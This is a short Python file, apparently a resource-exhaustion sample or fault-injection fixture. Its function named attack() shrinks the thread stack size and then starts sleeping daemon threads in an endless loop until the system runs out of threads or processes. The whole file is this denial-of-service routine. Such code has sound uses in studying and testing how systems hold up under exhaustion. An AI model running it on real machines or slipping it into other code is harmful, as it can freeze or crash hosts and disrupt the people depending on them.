"""Starts threads without end."""
# cause: processes

import threading
import time


def attack():
    threading.stack_size(65536)
    while True:
        threading.Thread(target=time.sleep, args=(300,), daemon=True).start()
